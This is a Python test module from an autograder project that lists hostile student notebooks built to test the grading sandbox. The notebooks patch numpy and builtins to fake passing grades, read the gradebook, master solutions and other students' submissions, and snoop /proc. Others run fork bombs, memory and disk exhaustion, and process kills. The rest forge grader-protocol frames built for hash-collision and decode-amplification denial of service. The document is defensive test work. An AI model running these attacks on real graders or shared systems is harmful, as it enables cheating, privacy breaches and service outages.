"""The attack corpus: student notebooks that try to cheat, snoop or harm, against `adv`.

Each attack is a student notebook built from the student version of the fixture (answers
unanswered or wrong, so every point it gets is unearned) or from the reference answer (for the
"harm" group, where the points are earned and the question is whether grading survives). Code
that reads a forbidden file turns what it read into points (it runs the master's solutions, or
the correct answers embedded below), so "could read it" shows up as a score above zero.

Attack sources are `string.Template`s: $MASTER, $GRADEBOOK, $CONFIG, $OTHER (another student's
submission), $PORT (a listening socket on 127.0.0.1), $TOKEN (marks processes and files the
attack leaves), $CANARY (a file outside the sandbox the attack tries to create).
"""

from __future__ import annotations

import copy
import string
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from adv_master import DOUBLE, NOISE, SOFTMAX
from nngrade.grading.markers import strip_hidden
from nngrade.grading.prepare import is_test_cell, nbgrader_meta
from simulate import reference

CORRECT = "\n\n".join(
    "\n".join(line for line in src.splitlines() if "### " not in line)
    for src in (DOUBLE, SOFTMAX, NOISE)
)
CORRECT = "import numpy as np\n\ndef scale(x):\n    return 2.0 * np.asarray(x)\n\n" + CORRECT
WRONG = """import numpy as np

def double(x):
    return np.asarray(x)

def softmax(z):
    return np.ones_like(np.asarray(z, dtype=float))

def noise(rng, n):
    return np.zeros(n)
"""
# Runs `CORRECT` (full marks) only when `readable` is true: reading turns into points.
CHEAT_IF = "\nif readable:\n    exec(" + repr(CORRECT) + ", globals())\n"


@dataclass
class Attack:
    """One hostile submission and what stops it."""

    name: str
    group: str  # "points" | "read" | "harm" | "grader"
    what: str
    stopped_by: str
    cells: list[str] = field(default_factory=list)  # code cells appended after the answers
    base: str = "release"  # "release" (no points earned) | "reference" (all points earned)
    mutate: Callable[[nbformat.NotebookNode], None] | None = None
    max_score: float = 0.0  # the most it may get (what it honestly earned)
    forbidden_text: str = ""  # must not appear in what the grader reports
    tail: list[str] = field(default_factory=list)  # code cells appended after the last test
    # Too dangerous to run without the namespace sandbox: as root, RLIMIT_NPROC does not apply,
    # kill(-1) reaches every process and every file is writable.
    needs_namespaces: bool = False
    # leak attacks: "copy" when hidden calls still run in a throw-away copy (later outputs are
    # shown), "refused" when the attack makes the kernel refuse one (later outputs withheld)
    hidden_calls: str = "copy"

    def notebook(self, master: nbformat.NotebookNode, **context: str) -> nbformat.NotebookNode:
        """The student notebook of this attack, placeholders filled from `context`."""
        nb = reference(master) if self.base == "reference" else release(master)
        at = 1 + next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("solution"))
        for offset, source in enumerate(self.cells):
            code = string.Template(source).substitute(context)
            nb.cells.insert(at + offset, nbformat.v4.new_code_cell(code))
        for source in self.tail:
            code = string.Template(source).substitute(context)
            nb.cells.append(nbformat.v4.new_code_cell(code))
        if self.mutate is not None:
            self.mutate(nb)
        return nb


def release(master: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """A student who answered nothing: answer cells empty, hidden tests removed, no outputs.

    Attack cells go right after the first answer cell, so they run before every test and
    nothing later redefines what they define.
    """
    nb = copy.deepcopy(master)
    for cell in nb.cells:
        if cell.cell_type != "code":
            continue
        cell.outputs, cell.execution_count = [], None
        if is_test_cell(cell):
            cell.source = strip_hidden(cell.source)
        elif nbgrader_meta(cell).get("solution"):
            cell.source = ""
    return nb


def _edit_metadata(nb: nbformat.NotebookNode) -> None:
    """Points to 100, tests emptied or turned to markdown, ids swapped, a fake graded cell."""
    for cell in nb.cells:
        meta = nbgrader_meta(cell)
        if meta.get("grade"):
            meta["points"] = 100
            meta["locked"] = False
            cell.source = "pass"
        if meta.get("grade_id") == "test_softmax":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        if meta.get("grade_id") == "double":
            meta["grade_id"] = "test_noise"
            meta["grade"], meta["points"] = True, 50
    fake = nbformat.v4.new_code_cell("print('all tests passed')")
    fake.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "points": 1000,
        "solution": False,
        "locked": True,
        "schema_version": 3,
    }
    nb.cells.append(fake)


# The grader-side attacks below replace how the kernel's agent answers the grader (student code
# runs in the agent's process, so it can): every reply becomes a crafted frame (value and
# blobs chosen by the attack). The reply is what a forged agent could send; the
# grader must refuse it before building it, with a reason, and stay small and quick.
CRAFTED_REPLY = """import gc, io, json, os, struct
import numpy as np

def _npy(array):
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()

_agent = next(o for o in gc.get_objects() if type(o).__name__ == 'Agent' and hasattr(o, 'refs'))
_send = type(_agent).send

def _send_raw(self, header, blobs=()):
    if 'value' not in header or 'found' in header:  # crafted: replies to calls only
        return _send(self, header, blobs)
    pre = b'{"ok": true, "id": %d, "value": {"$dict": [["value", ' % (header.get('id') or 0)
    post = b'], ["rngs", []]]}}'
    size = len(pre) + len(TREE_JSON) + len(post)
    pieces = [b'NNG1' + struct.pack('<II', size, len(BLOBS)), pre, TREE_JSON, post]
    for blob in BLOBS:
        pieces += [struct.pack('<Q', len(blob)), blob]
    for piece in pieces:  # written piece by piece: no copy of a large header in the kernel
        data = memoryview(piece)
        while data:
            data = data[os.write(self.wfd, data):]

type(_agent).send = type(_agent).send_checked = _send_raw
"""


def _crafted(setup: str) -> list[str]:
    """Answer cells whose every reply to the grader is the frame `setup` describes: the
    value's JSON text `TREE_JSON` (bytes, built once, so sending costs the kernel nothing)
    and the blobs `BLOBS`."""
    if "TREE_JSON" not in setup:
        setup += "\nTREE_JSON = json.dumps(TREE).encode()"
    code = CORRECT + "\n" + CRAFTED_REPLY + "\n" + setup
    return [code.replace("$", "$$")]  # the sources are string.Templates


def _cheat_reading(paths: str) -> str:
    return (
        "readable = False\n"
        f"for path in [{paths}]:\n"
        "    try:\n"
        "        with open(path, 'rb') as handle:\n"
        "            readable = readable or bool(handle.read(1))\n"
        "    except OSError:\n"
        "        pass\n" + CHEAT_IF
    )


# A correct `double` that keeps every input it is given (the hidden tests' ones too), in a
# global list and in a file; later cells try to show the log in the feedback.
LOGGING_DOUBLE = """import numpy as np
LOG = []
def double(x):
    LOG.append(np.asarray(x).tolist())
    try:  # refused in the copy that runs a test cell with hidden calls
        with open('/tmp/calls.log', 'a') as handle:
            handle.write(repr(np.asarray(x).tolist()) + '\\n')
    except OSError:
        pass
    return 2.0 * np.asarray(x, dtype=float)
"""
# hidden inputs the log holds after test_double's hidden part (the 2x2 probe), behind a marker
# that the source itself does not spell; "LOG clean" (shown to the student) when it holds none
SHOW_LOG = (
    "('LEA' + 'KED ' + repr(HIDDEN)) if (HIDDEN := [v for v in LOG if np.ndim(v) == 2]) "
    "else 'LOG clean'"
)


def _channel(setup: str, record: str, seen: str) -> tuple[str, str]:
    """An answer cell whose `double` records, through one channel, that it was called with a
    2-D input (only test_double's hidden probe is 2-D), and a tail cell that prints LEAKED if
    the channel says so (else "channel clean"). The channel is set up before any test runs."""
    answer = (
        f"import numpy as np, os, signal, resource, select\n{setup}\n"
        "def double(x):\n"
        "    if np.ndim(x) == 2:\n"
        "        try:\n"
        + "".join(f"            {line}\n" for line in record.splitlines())
        + "        except Exception:\n"
        "            pass\n"
        "    return 2.0 * np.asarray(x, dtype=float)\n"
    )
    return answer, f"print(('LEA' + 'KED') if ({seen}) else 'channel clean')"


HOME_FILE = "os.path.expanduser('~/seen.log')"
CHANNELS = {  # name: (what, setup before the tests, record in the hidden call, seen later)
    "closure": (
        "a closure's list",
        "def _make():\n    seen = []\n    return seen, seen.append\nSEEN, RECORD = _make()",
        "RECORD(1)",
        "SEEN",
    ),
    "home_file": ("a file in the scratch home", "", f"open({HOME_FILE}, 'a').write('2')",
                  f"os.path.exists({HOME_FILE})"),
    "tmp_file": ("a file in /tmp", "", "open('/tmp/seen.log', 'a').write('2')",
                 "os.path.exists('/tmp/seen.log')"),
    "shared_mmap": ("a MAP_SHARED mmap made before", "import mmap\nSHM = mmap.mmap(-1, 16)",
                    "SHM[0] = 2", "SHM[0] == 2"),
    "shared_value": (
        "a multiprocessing shared Value made before",
        "import multiprocessing\nVAL = multiprocessing.Value('i', 0)",
        "VAL.value = 2",
        "VAL.value == 2",
    ),
    "fd_offset": (
        "the offset of a file opened before (the hidden call reads 7 bytes)",
        "open(os.path.expanduser('~/pad.txt'), 'w').write('x' * 100)\n"
        "PAD = os.open(os.path.expanduser('~/pad.txt'), os.O_RDONLY)",
        "os.read(PAD, 7)",
        "os.lseek(PAD, 0, os.SEEK_CUR) > 0",
    ),
    "pipe": ("a pipe made before", "R, W = os.pipe()", "os.write(W, b'2')",
             "select.select([R], [], [], 0)[0]"),
    "eventfd": ("an eventfd made before", "EV = os.eventfd(0)", "os.eventfd_write(EV, 2)",
                "select.select([EV], [], [], 0)[0]"),
    "signal_parent": (
        "a signal to the kernel (which counts them)",
        "KERNEL = os.getpid()\nGOT = []\n"
        "signal.signal(signal.SIGUSR1, lambda *args: GOT.append(1))",
        "os.kill(KERNEL, signal.SIGUSR1)",
        "GOT",
    ),
    "nice_parent": ("the kernel's nice value", "KERNEL = os.getpid()",
                    "os.setpriority(os.PRIO_PROCESS, KERNEL, 7)",
                    "os.getpriority(os.PRIO_PROCESS, 0) == 7"),
    "prlimit_parent": (
        "the kernel's file limit (prlimit)",
        "KERNEL = os.getpid()",
        "resource.prlimit(KERNEL, resource.RLIMIT_NOFILE, (200, 200))",
        "resource.getrlimit(resource.RLIMIT_NOFILE)[0] == 200",
    ),
    "kill_ppid": ("a kill of its parent and of the kernel", "KERNEL = os.getpid()",
                  "os.kill(os.getppid(), signal.SIGKILL)\nos.kill(KERNEL, signal.SIGKILL)",
                  "False"),
}  # fmt: skip
REFUSING = {  # a thread or process that outlives its cell: the kernel refuses to fork a copy
    "thread": (
        "a background thread started before",
        "import threading, time\n"
        "threading.Thread(target=time.sleep, args=(120,), daemon=True).start()\nLOG = []",
        "LOG.append(2)",
        "LOG",
    ),
    "process": (
        "a background process started before",
        "import subprocess\nBG = subprocess.Popen(['sleep', '120'])\nLOG = []",
        "LOG.append(2)",
        "LOG",
    ),
}


def _channel_attacks() -> list[Attack]:
    attacks = []
    for table, hidden_calls in ((CHANNELS, "copy"), (REFUSING, "refused")):
        for name, (what, setup, record, seen) in table.items():
            answer, tail = _channel(setup, record, seen)
            attacks.append(
                Attack(
                    f"leak_log_via_{name}",
                    "read",
                    f"the graded function records in {what} that it saw the hidden input; "
                    "a cell after the tests prints it",
                    LEAK_AFTER_HIDDEN,
                    [answer],
                    base="reference",
                    max_score=6.0,
                    forbidden_text="LEAKED",
                    tail=[tail],
                    hidden_calls=hidden_calls,
                )
            )
    return attacks


def _softmax_quotes_log(nb: nbformat.NotebookNode) -> None:
    """`softmax` returns a marked value once `double` has seen the hidden 2-D input: test_softmax's
    visible message (compare's report, after test_double's hidden part) quotes it."""
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == "softmax":
            cell.source += (
                "\n\n_right_softmax = softmax\n"
                "def softmax(z):\n"
                "    if any(np.ndim(v) == 2 for v in LOG):\n"
                "        return np.array([7.77e77, 0.5])\n"
                "    return _right_softmax(z)\n"
            )


def _noise_raises_log(nb: nbformat.NotebookNode) -> None:
    """`noise` (called by test_noise's visible part, after test_double's hidden part) raises
    an error whose text is the log of hidden inputs."""
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == "noise":
            cell.source += (
                "\n\ndef noise(rng, n):\n"
                "    if any(np.ndim(v) == 2 for v in LOG):\n"
                f"        raise ValueError({SHOW_LOG})\n"
                "    return rng.normal(size=n)\n"
            )


LEAK_AFTER_HIDDEN = (
    "hidden calls run in a confined copy of the kernel that is then discarded (no later cell "
    "or test sees what they did); where the kernel refuses to fork one (a thread or process of "
    "the student is running), nothing student code produces after the first hidden test is kept"
)

ATTACKS: list[Attack] = [
    # ------------------------------------------------------------------ unearned points
    Attack(
        "allclose_patched",
        "points",
        "np.allclose/isclose patched to always True, testing helpers to never raise",
        "tests run in the grader with its own numpy; the patch lives in the kernel only",
        [
            WRONG + "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "np.array_equal = lambda *a, **k: True\n"
        ],
    ),
    Attack(
        "nnhelpers_patched",
        "points",
        "nnhelpers.gradcheck.compare replaced by one that always says ok",
        "the grader imports its own nnhelpers; the kernel's copy is irrelevant to verdicts",
        [
            WRONG + "import nnhelpers.gradcheck as gc\n"
            "class Ok:\n    ok = True\n    def __str__(self):\n        return 'ok'\n"
            "gc.compare = lambda *a, **k: Ok()\ncompare = gc.compare\n"
        ],
    ),
    Attack(
        "builtins_patched",
        "points",
        "builtins.AssertionError, isinstance and len replaced in the kernel",
        "grader-side builtins are untouched; the kernel's builtins only affect student code",
        [
            WRONG + "import builtins\n"
            "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
            "builtins.isinstance = lambda *a: True\n"
        ],
    ),
    Attack(
        "input_transformer",
        "points",
        "an IPython input transformer that blanks every later cell (tests included)",
        "test cells never go through the kernel's IPython: the grader executes them",
        [
            WRONG + "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
        ],
    ),
    Attack(
        "traceback_hooks",
        "points",
        "showtraceback, custom exception handler, sys.excepthook and sys.exit overridden",
        "a failing test is an exception in the grader, which the kernel cannot hook",
        [
            WRONG + "import sys\nip = get_ipython()\n"
            "ip.showtraceback = lambda *a, **k: None\n"
            "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
            "sys.excepthook = lambda *a: None\nsys.exit = lambda *a: None\n"
        ],
    ),
    Attack(
        "fake_output",
        "points",
        "prints fake nbgrader / `nngrade check --json` results on stdout, fd 1 and fd 2",
        "kernel output is only shown in the student's cells; scores come from verdicts",
        [
            WRONG + "import os, json\nfake = json.dumps({'assignment': 'adv', 'score': 6.0, "
            "'max_score': 6.0, 'status': 'graded', 'tests': []})\n"
            "print(fake)\nprint('All tests passed! Score: 6/6')\n"
            "os.write(1, fake.encode() + b'\\n')\nos.write(2, fake.encode() + b'\\n')\n"
            "from IPython.display import display\n"
            "display({'application/json': json.loads(fake)}, raw=True)\n"
        ],
    ),
    Attack(
        "exit_when_tested",
        "points",
        "graded functions call os._exit(0) when the tests call them",
        "a dead kernel is an error for that test and not-run for later ones (0 points)",
        [
            "import os\n\ndef double(x):\n    os._exit(0)\n\n"
            "def softmax(z):\n    os._exit(0)\n\ndef noise(rng, n):\n    os._exit(0)\n"
        ],
    ),
    Attack(
        "kill_kernel",
        "points",
        "wrong answers, then the kernel kills its own process group and every process it can",
        "tests after a dead kernel are not run; signals stay inside the sandbox's pid namespace",
        [
            WRONG,
            "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n"
            "    pass\nos.killpg(0, signal.SIGKILL)\n",
        ],
        needs_namespaces=True,
    ),
    Attack(
        "metadata_edit",
        "points",
        "tests emptied, points set to 100, a test turned to markdown, grade ids swapped, "
        "a fake 1000-point graded cell",
        "prepare() restores every test and locked cell from the master; points come from it",
        [WRONG],
        mutate=_edit_metadata,
    ),
    Attack(
        "forged_protocol",
        "points",
        "writes forged reply frames and garbage to the grader channel's file descriptors",
        "replies carry only values (JSON + .npy); a malformed frame kills the kernel",
        [
            WRONG + "import os, json, struct\n"
            "frame = json.dumps({'id': 99, 'ok': True, 'value': True}).encode()\n"
            "for fd in range(3, 64):\n    try:\n"
            "        os.write(fd, b'NNG1' + struct.pack('<II', len(frame), 0) + frame)\n"
            "        os.write(fd, b'garbage' * 100)\n    except OSError:\n        pass\n"
        ],
    ),
    Attack(
        "fake_values",
        "points",
        "functions return objects whose ==, bool and __array__ say 'equal', ndarray and "
        "float subclasses with a patched __eq__",
        "values are rebuilt from JSON/.npy as plain types; other objects become handles "
        "that refuse comparison and truth",
        [
            "import numpy as np\nclass Liar:\n    def __eq__(self, other):\n        return True\n"
            "    def __bool__(self):\n        return True\n"
            "    def __array__(self, *a, **k):\n        return np.array([2.0, -4.0])\n"
            "class LiarArray(np.ndarray):\n    def __eq__(self, other):\n"
            "        return np.ones(np.shape(other), bool)\n"
            "def double(x):\n    return Liar()\n"
            "def softmax(z):\n    return np.zeros(np.shape(z)).view(LiarArray)\n"
            "class LiarFloat(float):\n    def __eq__(self, other):\n        return True\n"
            "def noise(rng, n):\n    return [LiarFloat(0.0)] * n\n"
        ],
    ),
    Attack(
        "sigint_shield",
        "points",
        "wrong answers that, when called, loop forever and swallow KeyboardInterrupt",
        "the per-test deadline interrupts, then kills the kernel; the test times out",
        [
            "import numpy as np\ndef double(x):\n    while True:\n        try:\n"
            "            while True:\n                pass\n        except KeyboardInterrupt:\n"
            "            pass\n\ndef softmax(z):\n    return np.zeros(np.shape(z))\n\n"
            "def noise(rng, n):\n    return np.zeros(n)\n"
        ],
    ),
    # ------------------------------------------------------------------ reading forbidden things
    Attack(
        "read_master",
        "read",
        "reads the master notebook and runs its solution cells",
        "the sandbox's root holds only system/Python folders, nnhelpers, data and the "
        "student's own notebook (chroot); the kernel runs as a dedicated uid",
        [
            "import json\ntry:\n    master = json.load(open('$MASTER'))\n"
            "    for cell in master['cells']:\n"
            "        if '### BEGIN SOLUTION' in ''.join(cell['source']):\n"
            "            exec(''.join(cell['source']), globals())\nexcept OSError:\n    pass\n"
        ],
    ),
    Attack(
        "leak_hidden_inputs",
        "read",
        "prints the inputs it is given and raises them in its error message, to learn the "
        "hidden tests' inputs from the feedback",
        "in tests with hidden parts, what student functions print is not shown, and an "
        "error on a hidden line is reported without its message",
        [
            "import numpy as np\ndef double(x):\n    x = np.asarray(x)\n    if x.ndim == 2:\n"
            "        print('LEAK', x.tolist())\n"
            "        raise ValueError('LEAK ' + repr(x.tolist()))\n"
            "    return 2 * x\n"
        ],
        forbidden_text="LEAK",
    ),
    Attack(
        "leak_log_printed_later",
        "read",
        "logs the arguments of its graded function; a cell after the tests prints the log",
        LEAK_AFTER_HIDDEN,
        [LOGGING_DOUBLE],
        base="reference",
        max_score=6.0,
        forbidden_text="LEAKED",
        tail=[f"print({SHOW_LOG})"],
    ),
    Attack(
        "leak_log_in_later_error_and_value",
        "read",
        "shows the logged hidden inputs as a later cell's value, error and display, and reads "
        "them back from a file it wrote",
        LEAK_AFTER_HIDDEN,
        [LOGGING_DOUBLE],
        base="reference",
        max_score=6.0,
        forbidden_text="LEAKED",
        tail=[
            SHOW_LOG,
            f"from IPython.display import display\ndisplay({SHOW_LOG})",
            "print('calls.log:', open('/tmp/calls.log').read())",
            f"raise ValueError({SHOW_LOG})",
        ],
    ),
    Attack(
        "leak_log_in_visible_test_error",
        "read",
        "a function called by a later visible test raises an error whose text is the log of "
        "the hidden inputs an earlier hidden test gave it",
        LEAK_AFTER_HIDDEN,
        [LOGGING_DOUBLE],
        base="reference",
        mutate=_noise_raises_log,
        max_score=6.0,
        forbidden_text="LEAKED",
    ),
    Attack(
        "leak_log_in_visible_test_message",
        "read",
        "a function called by a later visible test returns a value marked with what an earlier "
        "hidden test gave another function; the visible test's message quotes returned values",
        "hidden calls run in a throw-away copy of the kernel: the later test's calls never see "
        "what the hidden calls logged",
        [LOGGING_DOUBLE],
        base="reference",
        mutate=_softmax_quotes_log,
        max_score=6.0,
        forbidden_text="7.77e+77",  # as compare's report prints it
        tail=[f"print({SHOW_LOG})"],
    ),
    *_channel_attacks(),
    Attack(
        "read_grader_files",
        "read",
        "opens the gradebook, nbgrader_config.py and another student's submission",
        "none of them is inside the sandbox's root",
        [_cheat_reading("'$GRADEBOOK', '$CONFIG', '$OTHER'")],
    ),
    Attack(
        "search_filesystem",
        "read",
        "walks the file system for the course's hidden tests, gradebook and configuration",
        "the chroot holds no notebook but the student's own",
        [
            "import os\nreadable = False\nfor top in ['/', '/work', '/tmp', '/root', '/home']:\n"
            "    for base, dirs, files in os.walk(top):\n"
            "        if base.startswith(('/proc', '/sys', '/usr', '/dev')):\n"
            "            dirs[:] = []\n            continue\n"
            "        for name in files:\n"
            "            if not name.endswith(('.ipynb', '.db', '.py', '.json')):\n"
            "                continue\n"
            "            try:\n"
            "                data = open(os.path.join(base, name), 'rb').read(2**20)\n"
            "            except OSError:\n                continue\n"
            "            # markers assembled at run time: this notebook must not match itself\n"
            "            if b'secret' b'_probe' in data or b'adv' b'-course' in data:\n"
            "                readable = True\n" + CHEAT_IF
        ],
    ),
    Attack(
        "proc_snoop",
        "read",
        "looks through /proc for the grader (its command line, environment, open files)",
        "a new pid namespace: /proc shows only the sandbox's own processes",
        [
            "import os\nreadable = False\nfor pid in os.listdir('/proc'):\n"
            "    if not pid.isdigit():\n        continue\n    try:\n"
            "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
            "        if b'pytest' in cmd or b'nngrade' in cmd and b'sandbox/agent.py' not in cmd:\n"
            "            readable = True\n"
            "        for fd in os.listdir(f'/proc/{pid}/fd'):\n"
            "            if os.readlink(f'/proc/{pid}/fd/{fd}').endswith(('.db', '.ipynb')):\n"
            "                readable = True\n"
            "    except OSError:\n        pass\n" + CHEAT_IF
        ],
    ),
    # ------------------------------------------------------------------ harming others
    Attack(
        "infinite_loop",
        "harm",
        "an endless loop in a cell after the answers",
        "the per-cell timeout interrupts it; later cells and tests still run",
        ["while True:\n    pass\n"],
        base="reference",
        max_score=6.0,
    ),
    Attack(
        "loop_ignoring_sigint",
        "harm",
        "ignores SIGINT, then loops forever",
        "interrupt, then kill after a grace period; the report says why later tests did not run",
        ["import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"],
        base="reference",
        max_score=6.0,
    ),
    Attack(
        "memory_bomb",
        "harm",
        "allocates until memory runs out (numpy and bytearrays)",
        "RLIMIT_AS: the allocation fails with MemoryError inside the kernel",
        [
            "import numpy as np\nhog = []\ntry:\n    big = np.ones((1 << 38,))\n"
            "except MemoryError:\n"
            "    pass\nwhile True:\n    hog.append(bytearray(50 * 2**20))\n"
        ],
        base="reference",
        max_score=6.0,
    ),
    Attack(
        "forked_memory_bomb",
        "harm",
        "twelve children each touch 300 MB: under every per-process limit, 3.6 GB in total",
        "a memory cgroup per sandbox caps the whole tree (memory_mb + 512 MB); the OOM killer "
        "picks inside the sandbox",
        [
            "import os, time\nimport numpy as np\nkids = []\nfor _ in range(12):\n"
            "    pid = os.fork()\n    if pid == 0:\n        hog = np.ones(300 * 2**20 // 8)\n"
            "        time.sleep(2)\n        os._exit(0)\n    kids.append(pid)\n"
            "for pid in kids:\n    os.waitpid(pid, 0)\n"
        ],
        base="reference",
        max_score=6.0,
        needs_namespaces=True,
    ),
    Attack(
        "fork_bomb",
        "harm",
        "forks until it cannot, every child forking too",
        "RLIMIT_NPROC on the sandbox's own uid; the pid namespace dies with the kernel",
        [
            "import os, time\nfor _ in range(200):\n    try:\n        os.fork()\n"
            "    except OSError:\n        time.sleep(0.01)\n"
        ],
        base="reference",
        max_score=6.0,
        needs_namespaces=True,
    ),
    Attack(
        "disk_filler",
        "harm",
        "writes one huge file, then many big files, in its folder and /tmp",
        "RLIMIT_FSIZE, and all writable places are size-capped tmpfs inside the sandbox",
        [
            "import os\nfor folder in ['.', '/tmp']:\n    try:\n"
            "        with open(os.path.join(folder, 'huge-$TOKEN'), 'wb') as f:\n"
            "            f.seek(50 * 2**30)\n            f.write(b'x')\n    except OSError:\n"
            "        pass\n    for i in range(100):\n        try:\n"
            "            with open(os.path.join(folder, f'fill-$TOKEN-{i}'), 'wb') as f:\n"
            "                f.write(b'x' * (20 * 2**20))\n        except OSError:\n"
            "            break\n"
        ],
        base="reference",
        max_score=6.0,
        needs_namespaces=True,
    ),
    Attack(
        "background_processes",
        "harm",
        "starts a detached sleeper (new session), a double-forked daemon and a busy thread",
        "the pid namespace is killed with its init; a sweep kills anything left with the uid",
        [
            "import os, subprocess, threading\n"
            "subprocess.Popen(['sh', '-c', 'sleep 600; : $TOKEN'], start_new_session=True)\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        os.execvp('sh', ['sh', '-c', 'sleep 600; : $TOKEN'])\n    os._exit(0)\n"
            "threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()\n"
        ],
        base="reference",
        max_score=6.0,
        needs_namespaces=True,
    ),
    Attack(
        "network",
        "harm",
        "connects to a server on the grading machine's loopback",
        "a new network namespace: no interface reaches the host",
        [
            "import socket\ntry:\n"
            "    socket.create_connection(('127.0.0.1', $PORT), timeout=2).sendall(b'$TOKEN')\n"
            "except OSError as err:\n    print('network blocked:', err)\n"
        ],
        base="reference",
        max_score=6.0,
    ),
    Attack(
        "huge_error_texts",
        "harm",
        "300 cells each raise ValueError('x' * 65536): a graded copy of tens of MB (1.17 GB "
        "with more cells), and a page that takes minutes to render",
        "an exception's value is kept to 2,000 characters, a traceback to 20,000, all outputs "
        "of a notebook to 5,000,000 characters (caps.py)",
        ["raise ValueError('x' * 65536)"] * 300,
        base="reference",
        max_score=6.0,
    ),
    Attack(
        "write_outside",
        "harm",
        "overwrites the master, the gradebook, another submission and creates a file in /tmp",
        "those paths do not exist in the sandbox; what it writes stays in its tmpfs",
        [
            "for path in ['$MASTER', '$GRADEBOOK', '$OTHER', '$CANARY']:\n    try:\n"
            "        with open(path, 'w') as handle:\n            handle.write('pwned')\n"
            "    except OSError:\n        pass\n"
        ],
        base="reference",
        max_score=6.0,
        needs_namespaces=True,
    ),
]

# ------------------------------------------------------------------ exhausting the grader
# The grader decodes replies and runs the tests' arithmetic in its own process: these attacks
# try to make that process huge or slow (issue 13). Each must end with a per-test reason, the
# grader's memory bounded (benchmarks/grader_memory.py, tests/nngrade/test_grader_memory.py).
GRADER_ATTACKS: list[Attack] = [
    Attack(
        "decode_amplification",
        "grader",
        "one 8 MB array blob referenced 5,000,000 times in a 60 MB reply (40 TB once decoded)",
        "a reply header over 8 MB is refused before it is parsed (kernel killed, reason given); "
        "each blob may be used once",
        _crafted(
            "BLOBS = [_npy(np.zeros(2**20))]\n"
            "TREE_JSON = b'[' + b'{\"$nd\": 0}, ' * 4_999_999 + b'{\"$nd\": 0}]'"
        ),
    ),
    Attack(
        "blob_reuse",
        "grader",
        "one 8 MB blob referenced 100,000 times in a 1.2 MB reply (800 GB once decoded)",
        "each blob may be referenced once; decoded bytes are counted against the reply limit",
        _crafted(
            "BLOBS = [_npy(np.zeros(2**20))]\n"
            "TREE_JSON = b'[' + b', '.join([b'{\"$nd\": 0}'] * 100_000) + b']'"
        ),
    ),
    Attack(
        "nested_lists",
        "grader",
        "[[]] * 12_000_000: a 46 MB reply that json.loads would turn into 12 million lists",
        "reply headers over 8 MB are refused before json.loads",
        _crafted("BLOBS = []\nTREE_JSON = b'[' + b'[], ' * 11_999_999 + b'[]]'"),
    ),
    Attack(
        "many_small_lists",
        "grader",
        "[[]] * 1_500_000: a 6 MB reply (under the header limit) of 1.5 million lists",
        "at most 200,000 lists/dicts per header, counted on the raw bytes before json.loads",
        _crafted("BLOBS = []\nTREE_JSON = b'[' + b'[], ' * 1_499_999 + b'[]]'"),
    ),
    Attack(
        "hash_collision",
        "grader",
        "a dict of 160,000 int keys that all share one hash (quadratic to build)",
        "dicts over 10,000 entries are refused before any key is inserted",
        _crafted("BLOBS = []\nTREE = {'$dict': [[k * (2**61 - 1), 0] for k in range(1, 160_001)]}"),
    ),
    Attack(
        "hash_collision_small",
        "grader",
        "a dict of 9,000 int keys sharing one hash (under the dict-size limit)",
        "keys' hashes are counted first (linear); more than 16 keys on one hash are refused",
        _crafted("BLOBS = []\nTREE = {'$dict': [[k * (2**61 - 1), 0] for k in range(1, 9_001)]}"),
    ),
    Attack(
        "array_header_lie",
        "grader",
        "a .npy blob whose header claims 10**12 float64s (8 TB) but carries 80 bytes",
        "array headers are parsed and checked against their data before anything is allocated",
        _crafted(
            "buffer = io.BytesIO()\nnp.lib.format.write_array_header_1_0(buffer, "
            "{'descr': '<f8', 'fortran_order': False, 'shape': (10**12,)})\n"
            "BLOBS = [buffer.getvalue() + bytes(80)]\nTREE = {'$nd': 0}"
        ),
    ),
    Attack(
        "huge_string",
        "grader",
        "a reply holding one 7,000,000-character string",
        "strings over 1,000,000 characters are refused while decoding",
        _crafted("BLOBS = []\nTREE = 'x' * 7_000_000"),
    ),
    Attack(
        "deep_nesting",
        "grader",
        "a reply of lists nested 900 deep",
        "values nested more than 64 levels are refused while decoding",
        _crafted(
            "import sys\nsys.setrecursionlimit(5_000)\nBLOBS = []\nTREE = []\n"
            "for _ in range(900):\n    TREE = [TREE]"
        ),
    ),
    Attack(
        "broadcast_inflation",
        "grader",
        "int8 arrays of shape (30_000_000, 1, 1) and (30_000_000, 1), 30 MB each, returned where "
        "the tests compare with a (2, 2) and a (3,) array: np.allclose broadcasts them into "
        "float64 temporaries of 960 and 720 MB",
        "test cells run with the grader's address space capped (judge_memory_mb) and a "
        "deadline: the test fails with a MemoryError naming the shapes, the grader lives",
        [
            CORRECT + "\n\ndef double(x):\n    x = np.asarray(x)\n    if x.ndim == 1:\n"
            "        return 2.0 * x\n    return np.ones((30_000_000, 1, 1), dtype=np.int8)\n"
            "\n\ndef noise(rng, n):\n    rng.normal(size=n)\n"
            "    return np.ones((30_000_000, 1), dtype=np.int8)\n"
        ],
        max_score=3.0,
    ),
    Attack(
        "error_text_flood",
        "grader",
        "400 cells each raising ValueError('x' * 65536), and functions raising 1 MB messages",
        "an error's name, message and traceback lines are capped, and a graded copy keeps at "
        "most 2 MB of outputs",
        [
            WRONG + "\ndef softmax(z):\n    raise ValueError('y' * 2**20)\n",
            *["raise ValueError('x' * 65536)"] * 400,
        ],
    ),
]
ATTACKS += GRADER_ATTACKS

BY_NAME = {attack.name: attack for attack in ATTACKS}
